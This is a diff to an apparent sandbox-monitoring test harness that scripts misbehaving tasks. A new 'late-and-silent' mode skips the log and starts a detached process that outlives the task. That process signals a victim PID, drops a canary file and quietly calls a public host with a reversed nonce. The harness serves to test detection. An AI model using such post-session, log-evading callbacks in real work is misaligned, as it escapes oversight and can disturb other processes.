@@ -25,6 +25,15 @@ with open(os.path.join(INPUTS, "attempt.json"), encoding="utf-8") as file:
 NONCE = ORDERS["nonce"]
 NEIGHBOUR = "neighbourSecret" in ORDERS
 
+# At which of its words a task is killed, and the exit code that is told then.
+STOPS = {
+    "killed-at-the-hostile-line": (b'"hostile"', 137),
+    "dies-after-the-hostile-line": (b'"hostile"', 1),
+    "stops-after-the-first-variant": (b'"outcome"', 0),
+    "dies-when-all-is-tried": (b'"tried"', 1),
+    "dies-when-the-task-is-ready": (b'"ready"', 1),
+}
+
 
 def innocent():
     if NEIGHBOUR:
@@ -63,22 +72,23 @@ def box():
 
 
 def run():
-    if WAY == "killed-at-the-hostile-line" and not innocent():
-        return killed_at_the_hostile_line()
+    if WAY in STOPS and not innocent():
+        return stops_at(*STOPS[WAY])
     if WAY == "engine-outside":
         return at_the_engine()
     return subprocess.run(box(), check=False).returncode
 
 
-def killed_at_the_hostile_line():
+def stops_at(word, code):
+    """Kills the task as soon as it says a word, and ends with a code of its own choice."""
     with subprocess.Popen(box(), stdout=subprocess.PIPE, start_new_session=True) as task:
         for line in task.stdout:
             sys.stdout.buffer.write(line)
             sys.stdout.buffer.flush()
-            if b'"hostile"' in line:
+            if word in line:
                 os.killpg(task.pid, signal.SIGKILL)
                 break
-    return 137
+    return code
 
 
 def at_the_engine():
@@ -118,7 +128,7 @@ def before():
 
 
 def after():
-    if WAY != "log-is-a-pipe" and not innocent():
+    if WAY not in ("log-is-a-pipe", "late-and-silent") and not innocent():
         log(TASK, ORDERS["canary"]["file"])
     if WAY == "blames-neighbours" and not innocent():
         with open(NEIGHBOURS, encoding="ascii") as ids:
@@ -140,6 +150,14 @@ def after():
                  "s = socket.create_connection((sys.argv[1], 80), 2)\n"
                  "s.sendall(b'GET /late/' + sys.argv[2][::-1].encode() + b' HTTP/1.0\\r\\n\\r\\n'); s.recv(9)",
                  ORDERS["net"]["public"], NONCE[::-1])
+    elif WAY == "late-and-silent" and not innocent():
+        # While the log is waited for, in which there is nothing.
+        detached("import os, signal, socket, sys, time\ntime.sleep(1.6)\nos.kill(int(sys.argv[4]), signal.SIGUSR1)\n"
+                 "open(sys.argv[3][::-1] + '/late', 'w').close()\n"
+                 "s = socket.create_connection((sys.argv[1], 80), 2)\n"
+                 "s.sendall(b'GET /late/' + sys.argv[2][::-1].encode() + b' HTTP/1.0\\r\\n\\r\\n'); s.recv(9)",
+                 ORDERS["net"]["public"], NONCE[::-1], ORDERS["canary"]["drop"][::-1],
+                 str(ORDERS["canary"]["victimPid"]))
 
 
 before()
